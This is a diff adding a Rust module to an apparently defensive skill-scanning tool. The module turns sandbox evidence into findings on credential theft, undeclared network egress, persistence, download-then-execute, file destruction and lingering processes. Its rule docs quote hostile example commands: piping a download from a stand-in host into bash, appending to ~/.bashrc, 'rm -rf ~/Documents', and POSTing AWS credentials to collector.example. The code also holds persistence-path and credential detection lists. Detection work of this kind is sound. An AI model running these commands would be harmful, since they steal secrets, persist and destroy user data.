@@ -1,0 +1,652 @@
+//! From evidence to G3's report: observed capabilities and SK9xx findings.
+
+use crate::evidence::{Destination, Event, EventKind, Evidence};
+use crate::plan::Plan;
+use regex::Regex;
+use skillgate_model::bundle::Bundle;
+use skillgate_model::{
+    Capability, Confidence, Finding, Gate, GateReport, GateStatus, KillChainStage, RuleInfo,
+    Severity,
+};
+use std::collections::{BTreeMap, BTreeSet};
+use std::sync::LazyLock;
+
+/// G3's rules, documented for `skillgate rules explain` and SARIF.
+pub const RULES: &[RuleInfo] = &[
+    RuleInfo {
+        code: "SK901",
+        slug: "exfiltration-proven",
+        severity: Severity::Critical,
+        summary: "a honeytoken's canary left the sandbox: in a request, a DNS name, a TLS SNI or a command line",
+        docs: "What: G3 plants fresh fake credentials (files in a fake HOME, a .env, environment \
+variables), each carrying a random canary, and watches everything that leaves. A canary found in \
+a captured request body, DNS query, TLS server name or exec argv — raw or base64-, hex-, URL- or \
+gzip-encoded, or with separators changed — proves data flowed from a secret to a sink.\n\
+Why: this is credential theft observed, not inferred. A canary sent to the credential's own \
+service (a GitHub token to api.github.com) is SK910 instead.\n\
+Example: a script that reads ~/.aws/credentials and POSTs it to collector.example.",
+    },
+    RuleInfo {
+        code: "SK902",
+        slug: "credential-file-read",
+        severity: Severity::High,
+        summary: "a script opened a credential file: an SSH key, cloud credentials, a wallet, saved browser logins",
+        docs: "What: the kernel (inotify) or the syscall log saw a honeytoken file opened.\n\
+Why: few skills need another tool's credentials; stealers read them first. SSH keys, wallets and \
+browser logins are high; tool credentials (.aws, .netrc, docker, gh) medium; a .env in the \
+working directory low.\n\
+Example: `open(os.path.expanduser('~/.ssh/id_rsa'))` in a formatting skill.",
+    },
+    RuleInfo {
+        code: "SK903",
+        slug: "undeclared-egress",
+        severity: Severity::Medium,
+        summary: "network traffic to a host the skill never mentions",
+        docs: "What: a DNS query, connection or request to a host that appears nowhere in the \
+skill's files. Loopback is not counted.\n\
+Why: honest skills name the services they talk to; hidden endpoints are where stolen data goes.\n\
+Example: a PDF skill that resolves `telemetry.x7k.example` at start-up.",
+    },
+    RuleInfo {
+        code: "SK904",
+        slug: "persistence-attempt",
+        severity: Severity::High,
+        summary: "a script tried to write a shell start-up file, autostart entry, cron table or authorized_keys",
+        docs: "What: an open for writing, or a rename onto, a file that runs code at login or on a \
+schedule. The sandbox refuses the write; the attempt is the evidence.\n\
+Why: persistence outlives the skill: the payload runs again whenever the user opens a shell.\n\
+Example: `echo 'curl x | sh' >> ~/.bashrc`.",
+    },
+    RuleInfo {
+        code: "SK905",
+        slug: "download-then-execute",
+        severity: Severity::High,
+        summary: "a script executed something it had just downloaded or written",
+        docs: "What: an exec of a file written during the run, or a downloader (curl, wget) \
+followed by an interpreter reading its program from stdin in the same step.\n\
+Why: the code that runs is not the code that was reviewed; this is how fake installers work.\n\
+Example: `curl -s https://x.example/i.sh | bash`.",
+    },
+    RuleInfo {
+        code: "SK906",
+        slug: "destructive-operation",
+        severity: Severity::High,
+        summary: "a script deleted or moved files outside its working copy, or deleted many files",
+        docs: "What: unlink or rename outside the working copy and TMPDIR (refused by the \
+sandbox, logged), or more than 20 deletions in one run.\n\
+Why: wiping the user's files is sabotage whatever the skill claims to do.\n\
+Example: `rm -rf ~/Documents`.",
+    },
+    RuleInfo {
+        code: "SK907",
+        slug: "lingering-process",
+        severity: Severity::Medium,
+        summary: "a script left processes running after it ended",
+        docs: "What: processes still alive in the step's namespace after its main process exited; \
+the sandbox kills them and lists their command lines.\n\
+Why: a skill's script should finish; a background process is a beacon, miner or backdoor.\n\
+Example: `nohup python3 -c 'while True: beacon()' &`.",
+    },
+    RuleInfo {
+        code: "SK909",
+        slug: "secret-staged-to-file",
+        severity: Severity::High,
+        summary: "a canary was written to a file: a secret was collected for later",
+        docs: "What: a honeytoken's canary found in a file the payload wrote to its working copy \
+or TMPDIR.\n\
+Why: stealers gather secrets into one file before sending it; a skill has no reason to copy \
+credentials into its outputs.\n\
+Example: `env > /tmp/.cache/e.txt`.",
+    },
+    RuleInfo {
+        code: "SK910",
+        slug: "credential-sent-to-own-service",
+        severity: Severity::Info,
+        summary: "a credential was sent to the service it belongs to",
+        docs: "What: a canary from a token seen only in traffic to that token's own service \
+(GITHUB_TOKEN to github.com, AWS keys to amazonaws.com).\n\
+Why: that is how API clients use credentials; reported so the use is visible, not held against \
+the skill.\n\
+Example: `curl -H \"Authorization: token $GITHUB_TOKEN\" https://api.github.com/user`.",
+    },
+];
+
+/// Domains each honeytoken legitimately goes to.
+fn home_services(honeytoken: &str) -> &'static [&'static str] {
+    match honeytoken {
+        "env:GITHUB_TOKEN" | "gh-hosts" | "git-credentials" | "netrc" => {
+            &["github.com", "githubusercontent.com"]
+        }
+        "env:AWS_ACCESS_KEY_ID" | "env:AWS_SECRET_ACCESS_KEY" | "aws-credentials" => {
+            &["amazonaws.com"]
+        }
+        "env:OPENAI_API_KEY" => &["openai.com"],
+        "env:ANTHROPIC_API_KEY" => &["anthropic.com"],
+        "env:SLACK_TOKEN" => &["slack.com"],
+        "env:NPM_TOKEN" => &["npmjs.org", "npmjs.com"],
+        "docker-config" => &["docker.io", "docker.com"],
+        _ => &[],
+    }
+}
+
+fn host_matches(host: &str, domain: &str) -> bool {
+    let host = host.trim_end_matches('.').to_ascii_lowercase();
+    host == domain || host.ends_with(&format!(".{domain}"))
+}
+
+static HOST: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i)\b(?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+[a-z]{2,63}\b|\b\d{1,3}(?:\.\d{1,3}){3}\b")
+        .expect("valid regex")
+});
+static URL_HOST: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i)\b(?:https?|ftp|wss?)://(?:[^/@\s]*@)?([a-z0-9.-]+)").expect("valid regex")
+});
+
+/// Every host name or address the skill's own files mention.
+pub fn declared_hosts(bundle: &Bundle) -> BTreeSet<String> {
+    let mut hosts = BTreeSet::new();
+    for file in &bundle.files {
+        if let Some(text) = file.text() {
+            for m in HOST.find_iter(&text) {
+                hosts.insert(m.as_str().to_ascii_lowercase());
+            }
+        }
+    }
+    hosts
+}
+
+fn is_loopback(dst: &Destination) -> bool {
+    dst.hostname.is_none()
+        && (dst.ip.starts_with("127.") || dst.ip == "::1" || dst.ip == "0.0.0.0" || dst.ip == "::")
+}
+
+fn is_resolver(dst: &Destination) -> bool {
+    dst.port == 53 && dst.hostname.is_none()
+}
+
+const PERSISTENCE: &[&str] = &[
+    "/.bashrc",
+    "/.bash_profile",
+    "/.bash_login",
+    "/.profile",
+    "/.zshrc",
+    "/.zprofile",
+    "/.zshenv",
+    "/.config/fish/config.fish",
+    "/.config/autostart/",
+    "/.config/systemd/",
+    "/.ssh/authorized_keys",
+    "/.ssh/rc",
+    "/Library/LaunchAgents/",
+    "/etc/cron",
+    "/var/spool/cron",
+    "/etc/systemd/",
+    "/etc/profile",
+    "/etc/rc.local",
+    "/etc/init.d/",
+    "/.local/share/systemd/",
+];
+
+fn is_persistence_path(path: &str) -> bool {
+    PERSISTENCE.iter().any(|p| path.contains(p))
+}
+
+fn inside_sandbox_scratch(path: &str) -> bool {
+    path.starts_with("/tmp/work/") || path.starts_with("/tmp/scratch/")
+}
+
+fn credential_severity(honeytoken: &str) -> Severity {
+    match honeytoken {
+        "ssh-key" | "crypto-wallet" | "browser-logins" => Severity::High,
+        "dotenv" => Severity::Low,
+        _ => Severity::Medium,
+    }
+}
+
+/// G3's report for a run.
+pub fn report(bundle: &Bundle, plan: &Plan, evidence: &Evidence, runner: &str) -> GateReport {
+    let declared = declared_hosts(bundle);
+    let mut findings = Vec::new();
+    let mut caps = BTreeSet::new();
+    exfiltration(evidence, &mut findings, &mut caps);
+    credential_reads(evidence, &mut findings, &mut caps);
+    egress(evidence, &declared, &mut findings, &mut caps);
+    filesystem(evidence, &mut findings, &mut caps);
+    processes(evidence, &mut findings, &mut caps);
+
+    let mut problems: Vec<String> = evidence.errors.clone();
+    let missing = evidence.layers.missing();
+    if !missing.is_empty() && evidence.errors.is_empty() {
+        problems.push(format!("isolation layers missing: {}", missing.join(", ")));
+    }
+    let started = evidence.steps.iter().filter(|s| s.error.is_none()).count();
+    if !plan.steps.is_empty() && started == 0 && problems.is_empty() {
+        problems.push(format!(
+            "no step could start: {}",
+            evidence
+                .steps
+                .first()
+                .and_then(|s| s.error.clone())
+                .unwrap_or_default()
+        ));
+    }
+    if !plan.not_run.is_empty() {
+        problems.push(format!("not run: {}", plan.not_run.join("; ")));
+    }
+    let timed_out = evidence.steps.iter().filter(|s| s.timed_out).count();
+    let layers = &evidence.layers;
+    let mut note = format!(
+        "{runner}: {started}/{} steps ran, {} events, {} honeytokens; layers: userns+netns+mountns+pidns, \
+         nested userns, no_new_privs, Landlock ABI {}{}, seccomp notify, capture{}; kernel {}",
+        plan.steps.len(),
+        evidence.events.len(),
+        evidence.honeytokens.len(),
+        layers.landlock_abi,
+        if layers.landlock_enforced {
+            " enforced"
+        } else {
+            " NOT enforced"
+        },
+        if layers.mptcp_disabled {
+            ", MPTCP off"
+        } else {
+            ""
+        },
+        layers.kernel,
+    );
+    if timed_out > 0 {
+        note.push_str(&format!("; {timed_out} steps hit the time limit"));
+    }
+    let worst = findings.iter().map(|f: &Finding| f.severity).max();
+    let status = if !problems.is_empty() {
+        note = format!("{}; {note}", problems.join("; "));
+        GateStatus::Inconclusive
+    } else {
+        match worst {
+            Some(s) if s >= Severity::High => GateStatus::Fail,
+            Some(s) if s >= Severity::Medium => GateStatus::Warn,
+            _ => GateStatus::Pass,
+        }
+    };
+    GateReport {
+        gate: Gate::G3,
+        status,
+        findings,
+        capabilities: caps.into_iter().collect(),
+        note: Some(note),
+    }
+}
+
+fn finding(code: &str, severity: Severity, confidence: Confidence, message: String) -> Finding {
+    let rule = RULES
+        .iter()
+        .find(|r| r.code == code)
+        .expect("known G3 rule");
+    let category = match code {
+        "SK901" | "SK903" | "SK909" | "SK910" => "exfiltration",
+        "SK902" => "credentials",
+        "SK904" | "SK907" => "persistence",
+        "SK905" => "execution",
+        _ => "destruction",
+    };
+    Finding::new(code, Gate::G3, severity, confidence, category, message)
+        .with_help(rule.summary.to_string())
+}
+
+fn step_label(evidence: &Evidence, event: &Event) -> String {
+    event
+        .step
+        .and_then(|i| evidence.steps.get(i))
+        .map(|s| format!(" (step: {})", s.label))
+        .unwrap_or_default()
+}
+
+fn event_host(event: &Event) -> Option<String> {
+    match &event.kind {
+        EventKind::HttpRequest { dst, host, .. } => host
+            .as_ref()
+            .map(|h| h.split(':').next().unwrap_or(h).to_string())
+            .or_else(|| dst.hostname.clone()),
+        EventKind::TlsClientHello { sni, dst } => sni.clone().or_else(|| dst.hostname.clone()),
+        EventKind::DnsQuery { name, .. } => Some(name.clone()),
+        EventKind::RawPayload { dst, .. } | EventKind::Connect { dst } => dst.hostname.clone(),
+        EventKind::Send { dst, .. } => dst.as_ref().and_then(|d| d.hostname.clone()),
+        EventKind::Exec { argv, .. } => {
+            let joined = argv.join(" ");
+            URL_HOST.captures(&joined).map(|c| c[1].to_string())
+        }
+        _ => None,
+    }
+}
+
+fn describe(event: &Event) -> String {
+    match &event.kind {
+        EventKind::HttpRequest {
+            dst,
+            method,
+            host,
+            target,
+            ..
+        } => format!(
+            "HTTP {method} http://{}{target}",
+            host.clone().unwrap_or_else(|| dst.to_string())
+        ),
+        EventKind::TlsClientHello { dst, sni } => {
+            format!("TLS to {} (SNI {})", dst, sni.as_deref().unwrap_or("none"))
+        }
+        EventKind::DnsQuery { name, .. } => format!("DNS query {name}"),
+        EventKind::RawPayload { dst, bytes, .. } => format!("{bytes} bytes to {dst}"),
+        EventKind::Send { dst, bytes, .. } => match dst {
+            Some(d) => format!("send of {bytes} bytes to {d}"),
+            None => format!("send of {bytes} bytes"),
+        },
+        EventKind::Exec { argv, .. } => format!("exec {}", argv.join(" ")),
+        EventKind::FileWritten { path, .. } => format!("file {path}"),
+        other => format!("{other:?}"),
+    }
+}
+
+fn exfiltration(evidence: &Evidence, findings: &mut Vec<Finding>, caps: &mut BTreeSet<Capability>) {
+    // One finding per honeytoken and sink kind; the first event is the example.
+    let mut seen: BTreeMap<(String, &'static str), ()> = BTreeMap::new();
+    for (event, hit) in evidence.canary_hits() {
+        let host = event_host(event);
+        let own_service = host.as_deref().is_some_and(|h| {
+            home_services(&hit.honeytoken)
+                .iter()
+                .any(|d| host_matches(h, d))
+        });
+        let (code, key) = if hit.place == "file" {
+            ("SK909", "file")
+        } else if own_service {
+            ("SK910", "own")
+        } else {
+            ("SK901", "out")
+        };
+        if seen.insert((hit.honeytoken.clone(), key), ()).is_some() {
+            continue;
+        }
+        let how = if hit.transform == "raw" {
+            String::new()
+        } else {
+            format!(", {}-encoded", hit.transform)
+        };
+        let message = format!(
+            "canary of honeytoken `{}` seen in {}{how}: {}{}",
+            hit.honeytoken,
+            hit.place,
+            describe(event),
+            step_label(evidence, event)
+        );
+        let f = match code {
+            "SK901" => {
+                caps.insert(Capability::NetEgress);
+                caps.insert(Capability::SecretRead);
+                finding(code, Severity::Critical, Confidence::High, message)
+                    .with_capability(Capability::NetEgress)
+                    .with_stage(KillChainStage::Exfiltration)
+            }
+            "SK909" => {
+                caps.insert(Capability::SecretRead);
+                finding(code, Severity::High, Confidence::High, message)
+                    .with_capability(Capability::SecretRead)
+                    .with_stage(KillChainStage::CredentialAccess)
+            }
+            _ => {
+                caps.insert(Capability::SecretRead);
+                finding(code, Severity::Info, Confidence::High, message)
+                    .with_capability(Capability::SecretRead)
+            }
+        };
+        findings.push(f.with_evidence(&describe(event)));
+    }
+}
+
+fn credential_reads(
+    evidence: &Evidence,
+    findings: &mut Vec<Finding>,
+    caps: &mut BTreeSet<Capability>,
+) {
+    let mut seen = BTreeSet::new();
+    for event in &evidence.events {
+        if let EventKind::HoneytokenOpened { honeytoken, path } = &event.kind {
+            if !seen.insert(honeytoken.clone()) {
+                continue;
+            }
+            caps.insert(Capability::SecretRead);
+            let severity = credential_severity(honeytoken);
+            findings.push(
+                finding(
+                    "SK902",
+                    severity,
+                    Confidence::High,
+                    format!(
+                        "honeytoken `{honeytoken}` opened: {path}{}",
+                        step_label(evidence, event)
+                    ),
+                )
+                .with_capability(Capability::SecretRead)
+                .with_stage(if severity >= Severity::High {
+                    KillChainStage::CredentialAccess
+                } else {
+                    KillChainStage::None
+                })
+                .with_evidence(path),
+            );
+        }
+    }
+}
+
+fn egress(
+    evidence: &Evidence,
+    declared: &BTreeSet<String>,
+    findings: &mut Vec<Finding>,
+    caps: &mut BTreeSet<Capability>,
+) {
+    let mut reported = BTreeSet::new();
+    for event in &evidence.events {
+        let (host, ip) = match &event.kind {
+            EventKind::DnsQuery { name, .. } => (Some(name.clone()), None),
+            EventKind::Connect { dst } | EventKind::RawPayload { dst, .. } => {
+                if dst.proto == "unix" || is_loopback(dst) || is_resolver(dst) {
+                    continue;
+                }
+                (dst.hostname.clone(), Some(dst.ip.clone()))
+            }
+            EventKind::HttpRequest { .. } | EventKind::TlsClientHello { .. } => {
+                (event_host(event), None)
+            }
+            _ => continue,
+        };
+        let Some(name) = host.or(ip) else { continue };
+        let name = name.trim_end_matches('.').to_ascii_lowercase();
+        if name.is_empty() || name == "localhost" {
+            continue;
+        }
+        caps.insert(Capability::NetEgress);
+        let is_declared = declared
+            .iter()
+            .any(|d| host_matches(&name, d) || host_matches(d, &name));
+        if is_declared || !reported.insert(name.clone()) {
+            continue;
+        }
+        findings.push(
+            finding(
+                "SK903",
+                Severity::Medium,
+                Confidence::Medium,
+                format!(
+                    "traffic to `{name}`, a host the skill does not mention: {}{}",
+                    describe(event),
+                    step_label(evidence, event)
+                ),
+            )
+            .with_capability(Capability::NetEgress)
+            .with_evidence(&describe(event)),
+        );
+    }
+}
+
+fn filesystem(evidence: &Evidence, findings: &mut Vec<Finding>, caps: &mut BTreeSet<Capability>) {
+    let mut persistence = BTreeSet::new();
+    let mut destructive = Vec::new();
+    let mut deletions = 0usize;
+    for event in &evidence.events {
+        match &event.kind {
+            EventKind::FileOpen { path, write, .. } if *write => {
+                caps.insert(Capability::FsWrite);
+                if is_persistence_path(path) && persistence.insert(path.clone()) {
+                    caps.insert(Capability::Persistence);
+                    findings.push(
+                        finding(
+                            "SK904",
+                            Severity::High,
+                            Confidence::High,
+                            format!(
+                                "write to `{path}`, which runs at login or on a schedule{}",
+                                step_label(evidence, event)
+                            ),
+                        )
+                        .with_capability(Capability::Persistence)
+                        .with_stage(KillChainStage::Persistence)
+                        .with_evidence(path),
+                    );
+                }
+            }
+            EventKind::FileRename { from, to } => {
+                caps.insert(Capability::FsWrite);
+                if is_persistence_path(to) && persistence.insert(to.clone()) {
+                    caps.insert(Capability::Persistence);
+                    findings.push(
+                        finding(
+                            "SK904",
+                            Severity::High,
+                            Confidence::High,
+                            format!("rename onto `{to}`{}", step_label(evidence, event)),
+                        )
+                        .with_capability(Capability::Persistence)
+                        .with_stage(KillChainStage::Persistence)
+                        .with_evidence(to),
+                    );
+                }
+                if !inside_sandbox_scratch(from) {
+                    destructive.push((event, format!("rename of `{from}`")));
+                }
+            }
+            EventKind::FileUnlink { path } => {
+                caps.insert(Capability::FsDelete);
+                deletions += 1;
+                if !inside_sandbox_scratch(path) {
+                    destructive.push((event, format!("deletion of `{path}`")));
+                }
+            }
+            EventKind::FileWritten { .. } => {
+                caps.insert(Capability::FsWrite);
+            }
+            _ => {}
+        }
+    }
+    if let Some((event, what)) = destructive.first() {
+        findings.push(
+            finding(
+                "SK906",
+                Severity::High,
+                Confidence::Medium,
+                format!(
+                    "{what} outside the working copy ({} such operations){}",
+                    destructive.len(),
+                    step_label(evidence, event)
+                ),
+            )
+            .with_capability(Capability::FsDelete)
+            .with_stage(KillChainStage::Impact)
+            .with_evidence(what),
+        );
+    } else if deletions > 20 {
+        findings.push(
+            finding(
+                "SK906",
+                Severity::Medium,
+                Confidence::Medium,
+                format!("{deletions} files deleted in one run"),
+            )
+            .with_capability(Capability::FsDelete),
+        );
+    }
+}
+
+fn processes(evidence: &Evidence, findings: &mut Vec<Finding>, caps: &mut BTreeSet<Capability>) {
+    let mut written = BTreeSet::new();
+    let mut downloader_in_step: BTreeMap<usize, String> = BTreeMap::new();
+    let mut execs_per_step: BTreeMap<usize, usize> = BTreeMap::new();
+    let mut reported = false;
+    for event in &evidence.events {
+        match &event.kind {
+            EventKind::FileOpen { path, write, .. } if *write => {
+                written.insert(path.clone());
+            }
+            EventKind::Exec { path, argv } => {
+                let step = event.step.unwrap_or(usize::MAX);
+                let n = execs_per_step.entry(step).or_default();
+                *n += 1;
+                if *n > 1 {
+                    caps.insert(Capability::ProcExec);
+                }
+                let program = path.rsplit('/').next().unwrap_or(path);
+                if matches!(program, "curl" | "wget") && argv.iter().any(|a| a.contains("://")) {
+                    downloader_in_step.insert(step, argv.join(" "));
+                }
+                let reads_stdin = matches!(
+                    program,
+                    "bash" | "sh" | "dash" | "zsh" | "python3" | "python" | "perl" | "node"
+                ) && argv.len() <= 1;
+                let target = argv.get(1).map(String::as_str).unwrap_or(path);
+                let ran_written = written.contains(path)
+                    || written
+                        .iter()
+                        .any(|w| w.ends_with(&format!("/{}", target.trim_start_matches("./"))));
+                let piped = reads_stdin && downloader_in_step.contains_key(&step);
+                if (ran_written || piped) && !reported {
+                    reported = true;
+                    caps.insert(Capability::CodeDynamic);
+                    let what = if piped {
+                        format!(
+                            "`{}` piped into `{program}`",
+                            downloader_in_step.get(&step).cloned().unwrap_or_default()
+                        )
+                    } else {
+                        format!("exec of `{path}`, written during the run")
+                    };
+                    findings.push(
+                        finding(
+                            "SK905",
+                            Severity::High,
+                            Confidence::High,
+                            format!("{what}{}", step_label(evidence, event)),
+                        )
+                        .with_capability(Capability::CodeDynamic)
+                        .with_stage(KillChainStage::Execution)
+                        .with_evidence(&what),
+                    );
+                }
+            }
+            EventKind::LingeringKilled { count, commands } => {
+                findings.push(
+                    finding(
+                        "SK907",
+                        Severity::Medium,
+                        Confidence::High,
+                        format!(
+                            "{count} processes still running after the step ended, killed: {}{}",
+                            commands.join(" | "),
+                            step_label(evidence, event)
+                        ),
+                    )
+                    .with_capability(Capability::ProcExec)
+                    .with_evidence(&commands.join(" | ")),
+                );
+            }
+            _ => {}
+        }
+    }
+}
